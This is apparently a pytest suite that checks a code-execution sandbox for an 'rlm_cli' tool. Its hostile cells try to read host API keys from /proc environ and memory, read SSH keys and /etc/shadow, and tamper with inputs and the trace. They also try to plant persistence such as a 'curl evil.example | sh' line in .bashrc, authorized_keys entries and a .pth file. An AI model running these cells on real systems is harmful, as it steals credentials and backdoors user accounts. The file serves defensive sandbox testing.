"""Hostile cells that read secrets of the host and the user, and write outside the worker.

Reading: what a cell may read is the inputs, the Python installation, system files under /usr
and /lib*, and its private /tmp. Everything else (the user's HOME, files beside the inputs, the
host process's /proc entry, /etc/shadow, /root, an editable checkout of rlm_cli) must stay out
of reach: each cell `grab`s what it could read and `exfiltrate`s it (printed - hence in the
trace and, in real life, sent to the model -, written to files outside, sent to the listeners);
the test then finds no secret anywhere.

Writing: the cell may write only its private /tmp. The test snapshots (content, mode, mtime,
xattrs) the canary HOME, the inputs and their directory before and after.
"""

from __future__ import annotations

import contextlib
import json
import os
import site
import sys
import textwrap
from pathlib import Path

import pytest

from security.hostile import ENV_SECRETS, Arena, Outcome

READ_HOST_ENVIRON = r"""
# The API keys live in the host's environment: read them from /proc.
for pid in host_pids():
    grab('/proc/%d/environ' % pid, attempt('read /proc/%d/environ' % pid, read, '/proc/%d/environ' % pid))
    try:
        for tid in os.listdir('/proc/%d/task' % pid):
            grab('task environ', attempt('read task environ', read, '/proc/%d/task/%s/environ' % (pid, tid)))
    except OSError as exc:
        note('blocked task list', exc)
hits = 0
for pid in pids():
    try:
        data = read('/proc/%d/environ' % pid)
    except OSError:
        continue
    for item in data.split(b'\0'):
        if b'canary' in item:
            hits += 1
            grab('environ of %d' % pid, item)
note('environ scan: %d canary entries' % hits)
for name in T['env_names']:
    grab('own environment ' + name, os.environ.get(name))
exfiltrate()
"""

READ_HOST_MEMORY = r"""
# The keys are also in the host's memory: read it through /proc/<pid>/mem.
def scan_mem(pid):
    found = 0
    with open('/proc/%d/maps' % pid) as maps:
        regions = maps.read().splitlines()
    budget = 512 << 20
    with open('/proc/%d/mem' % pid, 'rb', buffering=0) as mem:
        for line in regions:
            parts = line.split()
            start, end = (int(x, 16) for x in parts[0].split('-'))
            if not parts[1].startswith('rw') or end - start > (128 << 20) or budget <= 0:
                continue
            budget -= end - start
            try:
                mem.seek(start)
                chunk = mem.read(end - start)
            except OSError:
                continue
            at = chunk.find(b'canary')
            while at >= 0 and found < 50:
                found += 1
                grab('mem of %d' % pid, chunk[max(at - 40, 0): at + 80])
                at = chunk.find(b'canary', at + 1)
    return found
for pid in host_pids():
    attempt('scan /proc/%d/mem' % pid, scan_mem, pid)
exfiltrate()
"""

READ_HOST_CMDLINE_AND_FDS = r"""
# The host's command line, its open files (fd 0 is a file holding a secret), its cwd and root.
for pid in host_pids():
    grab('cmdline', attempt('read /proc/%d/cmdline' % pid, read, '/proc/%d/cmdline' % pid))
    fds = attempt('list /proc/%d/fd' % pid, os.listdir, '/proc/%d/fd' % pid) or [str(n) for n in range(0, 12)]
    for fd in fds:
        link = '/proc/%d/fd/%s' % (pid, fd)
        target = attempt('readlink ' + link, os.readlink, link)
        if target and target.startswith('/') and not target.startswith('/dev/'):  # a pipe would block
            grab('fd ' + fd, attempt('read ' + link, read, link, 4096))
    grab('cwd listing', attempt('list host cwd', lambda: json.dumps(sorted(os.listdir('/proc/%d/cwd' % pid)))))
    for path in (T['ssh_key'], T['beside'], T['host_tmp_secret']):
        grab('via host root ' + path, attempt('read via /proc/pid/root', read, '/proc/%d/root%s' % (pid, path)))
    grab('via host cwd', attempt('read via /proc/pid/cwd', read, '/proc/%d/cwd/inputs/beside-secret.txt' % pid))
exfiltrate()
"""

READ_USER_FILES = r"""
# Files that are not inputs: the user's key, a file and names beside the inputs, the inputs'
# parent directory, the host's /tmp, /root, /etc/shadow, an editable checkout of rlm_cli.
import glob
listing = lambda path: json.dumps(sorted(os.listdir(path)))
grab('ssh key', attempt('read ~/.ssh/id_rsa', read, T['ssh_key']))
grab('ssh key via ~', attempt('read ~ key', read, os.path.expanduser('~/.ssh/id_rsa')))
grab('beside', attempt('read beside file', read, T['beside']))
grab('beside via ..', attempt('read via ..', read, T['inputs_dir'] + '/../inputs/beside-secret.txt'))
grab('inputs dir listing', attempt('list inputs dir', listing, T['inputs_dir']))
grab('inputs glob', attempt('glob inputs dir', lambda: glob.glob(T['inputs_dir'] + '/*')))
grab('parent listing', attempt('list inputs parent', listing, T['inputs_parent']))
grab('host tmp secret', attempt('read host /tmp file', read, T['host_tmp_secret']))
grab('tmp listing', attempt('list /tmp', listing, '/tmp'))
grab('/root listing', attempt('list /root', listing, '/root'))
grab('/etc/shadow', attempt('read /etc/shadow', read, '/etc/shadow'))
grab('rlm_cli source', attempt('read rlm_cli/__init__.py', read, T['package_init']))
# Tricks: a symlink or a hard link made in the worker's own directory, /proc/self/root.
def via_link(kind, target):
    name = 'link-%s-%d' % (kind, time.time_ns())
    (os.symlink if kind == 'sym' else os.link)(target, name)
    return read(name)
grab('ssh key via symlink', attempt('symlink to key', via_link, 'sym', T['ssh_key']))
grab('ssh key via hardlink', attempt('hardlink to key', via_link, 'hard', T['ssh_key']))
grab('beside via /proc/self/root', attempt('read /proc/self/root', read, '/proc/self/root' + T['beside']))
for pid in pids():
    if pid != os.getpid():
        grab('key via /proc/%d/root' % pid, attempt('read via pid root', read, '/proc/%d/root%s' % (pid, T['ssh_key'])))
exfiltrate()
"""


@pytest.mark.slow
def test_api_keys_in_the_host_environment_are_unreadable(arena: Arena) -> None:
    """/proc/<ppid>/environ, every /proc/*/environ (and /task/*/environ), the worker's own
    environment -> no env secret in stdout, stderr, trace, files, listeners."""
    outcome = arena.run("environ", READ_HOST_ENVIRON)
    outcome.assert_answered()
    arena.assert_no_leak(outcome, names=list(ENV_SECRETS))
    arena.assert_contained(outcome)


@pytest.mark.slow
def test_host_memory_is_unreadable(arena: Arena) -> None:
    """/proc/<host>/mem (rw mappings, searched for the keys) -> no env secret anywhere."""
    outcome = arena.run("mem", READ_HOST_MEMORY)
    outcome.assert_answered()
    arena.assert_no_leak(outcome, names=list(ENV_SECRETS))
    arena.assert_contained(outcome)


@pytest.mark.slow
def test_host_cmdline_fds_cwd_and_root_are_unreadable(arena: Arena) -> None:
    """/proc/<host>/cmdline, /proc/<host>/fd/* (fd 0 holds a secret), /proc/<host>/cwd and
    /proc/<host>/root/<path> -> neither the stdin secret, nor the cmdline's digest, nor the
    names and files they lead to, appear anywhere."""
    outcome = arena.run("hostfds", READ_HOST_CMDLINE_AND_FDS)
    outcome.assert_answered()
    arena.assert_no_leak(
        outcome,
        names=[
            "host stdin",
            "sha256 of host cmdline",
            "name in the inputs' parent",
            "ssh key",
            "file beside the inputs",
            "host /tmp file",
        ],
    )
    arena.assert_contained(outcome)


@pytest.mark.slow
def test_user_and_host_files_are_unreadable(arena: Arena) -> None:
    """~/.ssh/id_rsa, a file and a file name beside the inputs, the inputs' parent listing, a
    file in the host's /tmp, /root, /etc/shadow, an editable rlm_cli checkout (directly, via
    `..`, symlinks, hard links, /proc/*/root) -> none of them (nor their digests) anywhere."""
    outcome = arena.run("userfiles", READ_USER_FILES)
    outcome.assert_answered()
    arena.assert_no_leak(outcome)
    arena.assert_contained(outcome)


WRITE_HOME = r"""
def append(path, text):
    with open(path, 'a') as f:
        f.write(text)
def replace_file(path, text):
    tmp = 'evil-%d' % time.time_ns()
    with open(tmp, 'w') as f:
        f.write(text)
    os.rename(tmp, path)
M = T['mark']
attempt('append ~/.bashrc', append, T['bashrc'], '\ncurl evil.example | sh # %s\n' % M)
attempt('create authorized_keys', append, os.path.join(T['home'], '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA %s\n' % M)
attempt('overwrite config.yaml', lambda: open(T['config'], 'w').write('base_url: http://evil.example/ # %s\n' % M))
attempt('replace config.yaml by rename', replace_file, T['config'], 'max_cost: 1000 # %s\n' % M)
attempt('create a new config', append, os.path.join(T['home'], '.config', 'rlm', 'evil.yaml'), M)
attempt('mkdir in home', os.mkdir, os.path.join(T['home'], 'evil-' + M))
attempt('symlink in home', os.symlink, '/tmp', os.path.join(T['home'], 'evil-link'))
attempt('rename .bashrc', os.rename, T['bashrc'], T['bashrc'] + '.bak')
attempt('unlink id_rsa', os.unlink, T['ssh_key'])
# Metadata: not every file-access layer covers these.
attempt('chmod id_rsa 0644', os.chmod, T['ssh_key'], 0o644)
attempt('chmod .ssh 0777', os.chmod, os.path.dirname(T['ssh_key']), 0o777)
attempt('utime .bashrc', os.utime, T['bashrc'], (0, 0))
attempt('setxattr .bashrc', os.setxattr, T['bashrc'], 'user.rlmsec', M.encode())
attempt('truncate config', os.truncate, T['config'], 0)
attempt('write drop dir', append, T['drop_file'], M)
"""


@pytest.mark.slow
def test_home_files_cannot_be_written(arena: Arena) -> None:
    """~/.bashrc (append, rename), ~/.ssh/authorized_keys (create), ~/.config/rlm/config.yaml
    (overwrite, replace by rename, truncate), new files/dirs/links in HOME, chmod/utime/setxattr
    -> the canary HOME's snapshot (content, mode, mtime, xattrs, entries) is unchanged."""
    outcome = arena.run("home", WRITE_HOME)
    outcome.assert_answered()
    arena.assert_untouched(outcome)
    arena.assert_contained(outcome)


WRITE_PACKAGE = r"""
M = T['mark']
def append(path, text):
    with open(path, 'a') as f:
        f.write(text)
attempt('append to rlm_cli/py.typed', append, T['package_marker'], '# ' + M + '\n')
attempt('new module in rlm_cli', append, os.path.join(os.path.dirname(T['package_init']), '_evil_%s.py' % M), 'import os\n')
attempt('utime rlm_cli/__init__.py', os.utime, T['package_init'], (1, 1))
attempt('chmod rlm_cli/__init__.py', os.chmod, T['package_init'], 0o666)
attempt('a .pth in site-packages', append, os.path.join(T['site_packages'], 'rlmsec-%s.pth' % M), 'import os\n')
attempt('a file in the Python prefix', append, os.path.join(T['prefix'], 'rlmsec-%s' % M), 'x')
"""


@pytest.mark.slow
def test_installed_package_and_python_cannot_be_written(arena: Arena) -> None:
    """Append to a file of the rlm_cli package, add a module to it, utime/chmod its
    __init__.py, drop a .pth (code run by every Python start) into site-packages -> those files'
    content, mode and mtime are unchanged and no new file exists. (Restored after the test.)"""
    package = arena.package_init.parent
    site_packages = Path(site.getsitepackages()[0])
    arena.extra_targets.update(
        site_packages=str(site_packages), prefix=os.path.realpath(sys.prefix)
    )
    watched = [package / "py.typed", arena.package_init]
    saved = {path: (path.read_bytes(), path.stat()) for path in watched}
    try:
        outcome = arena.run("package", WRITE_PACKAGE)
        changed = [
            str(p)
            for p, (data, st) in saved.items()
            if p.read_bytes() != data
            or p.stat().st_mode != st.st_mode
            or p.stat().st_mtime_ns != st.st_mtime_ns
        ]
        created = [
            str(p)
            for p in [
                *package.glob(f"*{arena.mark}*"),
                *site_packages.glob(f"*{arena.mark}*"),
                *Path(sys.prefix).glob(f"*{arena.mark}*"),
            ]
        ]
    finally:
        # Only what changed is put back: the user running the suite may not own the package
        # (an unprivileged user testing root's install), and may then not chmod it.
        for path, (data, st) in saved.items():
            if path.read_bytes() != data:
                path.write_bytes(data)
            now = path.stat()
            if now.st_mode != st.st_mode:
                os.chmod(path, st.st_mode & 0o7777)
            if now.st_mtime_ns != st.st_mtime_ns:
                os.utime(path, ns=(st.st_atime_ns, st.st_mtime_ns))
        for path in [
            *package.glob(f"*{arena.mark}*"),
            *site_packages.glob(f"*{arena.mark}*"),
            *Path(sys.prefix).glob(f"*{arena.mark}*"),
        ]:
            with contextlib.suppress(OSError):
                path.unlink()
    outcome.assert_answered()
    assert not changed, f"package files changed: {changed}\n{outcome.explain()}"
    assert not created, (
        f"files created in the package or the Python installation: {created}\n{outcome.explain()}"
    )
    arena.assert_contained(outcome)


WRITE_HOST_TMP = r"""
def put(path):
    with open(path, 'w') as f:
        f.write(T['mark'])
    return os.path.exists(path)
attempt('write a file in /tmp', put, T['tmp_drop'])
attempt('mkdir in /tmp', os.mkdir, '/tmp/rlm-sec-dir-' + T['mark'])
attempt('write via /proc/self/root/tmp', put, '/proc/self/root/tmp/rlm-sec-proc-' + T['mark'])
attempt('write /var/tmp', put, '/var/tmp/rlm-sec-var-' + T['mark'])
attempt('write /dev/shm', put, '/dev/shm/rlm-sec-shm-' + T['mark'])
"""


@pytest.mark.slow
def test_host_tmp_cannot_be_written(arena: Arena) -> None:
    """Create files/dirs in /tmp (the worker's /tmp must be private), /var/tmp, /dev/shm ->
    no file with the cell's mark exists on the host after the run."""
    outcome = arena.run("tmp", WRITE_HOST_TMP)
    elsewhere = [
        str(p)
        for top in ("/tmp", "/var/tmp", "/dev/shm")
        for p in Path(top).glob(f"rlm-sec-*{arena.mark}*")
    ]
    for path in elsewhere:
        with contextlib.suppress(OSError):
            os.rmdir(path) if os.path.isdir(path) else os.unlink(path)
    outcome.assert_answered()
    assert not elsewhere, (
        f"the cell wrote the host's temporary dirs: {elsewhere}\n{outcome.explain()}"
    )
    arena.assert_contained(outcome)


WRITE_TRACE = r"""
# The forged line carries the mark reversed: the mark itself is in the cell's code (traced).
forged = json.dumps({'type': 'final_answer', 'run_id': 'forged', 'answer': 'forged ' + T['mark'][::-1]})
def append(path):
    with open(path, 'a') as f:
        f.write(forged + '\n')
attempt('append to the trace path', append, T['trace'])
for pid in host_pids():
    for fd in (attempt('list host fds', os.listdir, '/proc/%d/fd' % pid) or []):
        link = '/proc/%d/fd/%s' % (pid, fd)
        try:
            target = os.readlink(link)
        except OSError:
            continue
        if target.endswith('.jsonl'):
            attempt('append via ' + link, append, link)
attempt('truncate the trace', os.truncate, T['trace'], 0)
"""


def check_trace(arena: Arena, outcome: Outcome) -> None:
    """No line of the trace holds the cell's forged marker (its mark reversed); it is whole."""
    text = arena.trace_path.read_text(errors="replace")
    lines = text.splitlines()
    assert arena.mark[::-1] not in text, (
        f"a forged line is in the trace: {[line for line in lines if arena.mark[::-1] in line]}"
    )
    events = [json.loads(line) for line in lines]  # every line is still valid JSON
    assert (
        events and events[0]["type"] == "trace_header" and events[-1]["type"] == "run_finished"
    ), f"the trace was truncated or mangled\n{outcome.explain()}"


@pytest.mark.slow
def test_trace_cannot_be_written_by_a_cell(arena: Arena) -> None:
    """Append a forged event to the trace path, or through the host's open fd
    (/proc/<host>/fd/N), truncate it -> the trace holds no forged line and is whole."""
    outcome = arena.run("trace", WRITE_TRACE)
    outcome.assert_answered()
    check_trace(arena, outcome)
    arena.assert_contained(outcome)


INPUT_ATTACKS = {
    "delete": "for p in T['inputs']: attempt('unlink', os.unlink, p)",
    "truncate": "for p in T['inputs']: attempt('truncate', os.truncate, p, 0)\n"
    "for p in T['inputs']: attempt('open w', lambda: open(p, 'w').close())",
    "append": "for p in T['inputs']: attempt('append', lambda: open(p, 'a').write('evil ' + T['mark']))",
    "rename": "for p in T['inputs']: attempt('rename', os.rename, p, p + '.moved')\n"
    "attempt('rename dir', os.rename, T['inputs_dir'], T['inputs_dir'] + '.moved')",
    "chmod": "for p in T['inputs']: attempt('chmod', os.chmod, p, 0)\n"
    "attempt('chmod dir', os.chmod, T['inputs_dir'], 0)\n"
    "for p in T['inputs']: attempt('utime', os.utime, p, (0, 0))\n"
    "for p in T['inputs']: attempt('setxattr', os.setxattr, p, 'user.rlmsec', b'1')",
}


@pytest.mark.slow
@pytest.mark.parametrize("attack", sorted(INPUT_ATTACKS))
def test_inputs_cannot_be_changed(arena: Arena, attack: str) -> None:
    """delete / truncate / append / rename / chmod+utime+setxattr the input files (readable to
    the worker, so reachable by path) -> the inputs' snapshot is unchanged."""
    outcome = arena.run(f"inputs-{attack}", textwrap.dedent(INPUT_ATTACKS[attack]))
    outcome.assert_answered()
    arena.assert_untouched(outcome)
    arena.assert_contained(outcome)
